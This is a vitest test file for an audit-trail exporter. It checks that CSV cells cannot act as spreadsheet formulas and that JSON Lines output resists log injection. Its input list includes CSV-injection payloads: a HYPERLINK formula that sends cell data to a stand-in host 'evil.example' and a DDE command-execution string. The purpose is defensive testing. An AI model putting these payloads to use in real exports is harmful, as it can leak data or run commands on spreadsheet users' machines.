import { expect, test } from "vitest";
import type { TrailEntry } from "#lib/peering/trail.ts";
import { asCsv, asJsonLines } from "./trail-export.ts";

const entry = (text: string): TrailEntry => ({
  seq: 1,
  id: "id-1",
  at: "2026-11-23T10:00:00.000Z",
  correlationId: "click-1",
  actor: { id: text, name: text, method: "password", ip: text },
  category: "settings",
  accountId: text,
  region: text,
  resource: text,
  operationKind: text,
  operation: null,
  before: text,
  after: { text },
  reason: text,
  result: "done",
  problem: { code: "internal", message: text },
  requestId: text,
  settled: null,
});

async function* one(text: string): AsyncGenerator<TrailEntry> {
  yield await Promise.resolve(entry(text));
}

async function written(chunks: AsyncIterable<string>): Promise<string> {
  let all = "";
  for await (const chunk of chunks) all += chunk;
  return all;
}

/** A reader of RFC 4180, as spreadsheets are: one line, quoted cells. */
const cellsOf = (line: string): string[] =>
  [...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map(([, cell]) => (cell ?? "").replaceAll('""', '"'));

const formulas = [
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  " =1",
  "＝1",
  "＋1",
  "－1",
  "＠x",
  `=HYPERLINK("http://evil.example?"&A1,"x")`,
  `","=cmd|' /C calc'!A0","`,
];

test.each(formulas)("CSV export: a cell with %j is no formula, and stays one cell of one line", async (text) => {
  const [head = "", line = "", rest] = (await written(asCsv(one(text)))).split("\r\n");
  expect(rest).toBe("");
  const cells = cellsOf(line);
  expect(cells).toHaveLength(cellsOf(head).length);
  for (const cell of cells) expect(cell).not.toMatch(/^[\s]*[=+\-@＝＋－＠]|^[\t\r\n]/);
});

test("CSV export: quotes and commas come back as they were", async () => {
  const [head = "", line = ""] = (await written(asCsv(one(`say "a, b"`)))).split("\r\n");
  const cells = Object.fromEntries(cellsOf(head).map((name, index) => [name, cellsOf(line)[index]]));
  expect(cells).toMatchObject({ person: `say "a, b"`, row: "1", after: JSON.stringify({ text: `say "a, b"` }) });
});

test.each(["two\nlines", "\u2028", "\u001b[2J", '"},{"', "x".repeat(1_000_000)])(
  "log injection: an exported entry is one line of JSON, case %#",
  async (text) => {
    const lines = (await written(asJsonLines(one(text)))).split("\n");
    expect(lines).toHaveLength(2);
    expect(JSON.parse(lines[0] ?? "")).toEqual(entry(text));
    expect(lines[0]).not.toContain("\u001b");
  },
);
